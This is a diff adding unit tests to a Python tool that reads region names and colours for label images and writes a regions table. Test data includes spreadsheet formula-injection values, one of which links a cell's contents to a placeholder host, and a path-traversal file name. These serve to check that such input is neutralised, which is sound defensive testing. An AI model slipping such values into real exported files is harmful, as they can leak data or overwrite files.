@@ -387,6 +387,36 @@ class NamesTest(LabelsTest):
                 self.assertEqual(self.names("--names", name), wanted)
                 self.assertEqual(self.folder_report("out")["names"]["files"], [name])
 
+    def test_one_bad_colour_costs_no_name(self):
+        self.path("boxes.tsv").write_text("index\tname\tcolor\n1\tA\tred\n2\tB\t#0f0\n7\tC\treddish\n")
+        self.assertEqual(self.names()[:2], [("A", "#ff0000"), ("B", "#00ff00")])
+        self.assertEqual(self.names()[2][0], "C")
+        (warning,) = self.folder_report("out")["warnings"]
+        self.assertEqual(warning["code"], "colors-not-read")
+        self.assertIn("that of line 4 is 'reddish'", warning["text"])
+
+    def test_unknown_columns_are_refused_and_beside_the_map_left(self):
+        rows = "1 2001 A\n2 2002 B\n7 2003 C\n"
+        self.path("other").write_text(rows)
+        self.refused(BAD_INPUT, "other: its columns are those of no table that is read: numbers stand "
+                     "between index and name", "boxes.nii", "-o", "no", "--names", "other")
+        self.path("boxes.txt").write_text(rows)
+        self.assertEqual([name for name, _ in self.names()], ["region 1", "region 2", "region 7"])
+        self.assertEqual([w["code"] for w in self.folder_report("out")["warnings"]], ["names-not-used"])
+
+    def test_names_are_no_formulas_in_the_table(self):
+        names = ['=HYPERLINK("http://x/"&A1,"click")', "-left", "@SUM(1)"]
+        self.path("boxes.tsv").write_text("index\tname\n" + "".join(
+            f"{label}\t{name}\n" for label, name in zip((1, 2, 7), names)))
+        self.labels("boxes.nii", "-o", "out", "-q")
+        written = (self.path("out") / "regions.tsv").read_text()
+        for name in names:
+            self.assertIn(f"\t'{name}\t", written)
+        self.path("boxes.tsv").unlink()
+        self.labels("boxes.nii", "-o", "again", "-q", "--names", "out/regions.tsv")
+        self.assertEqual((self.path("again") / "regions.tsv").read_text(), written)
+        self.assertEqual([region["name"] for region in self.folder_report("again")["regions"]], names)
+
     def test_files_are_named_by_number(self):
         self.path("boxes.txt").write_text("1 ../../evil/name\n2 a/b\n7 <&\"'>\n")
         self.assertEqual([name for name, _ in self.names()], ["../../evil/name", "a/b", "<&\"'>"])
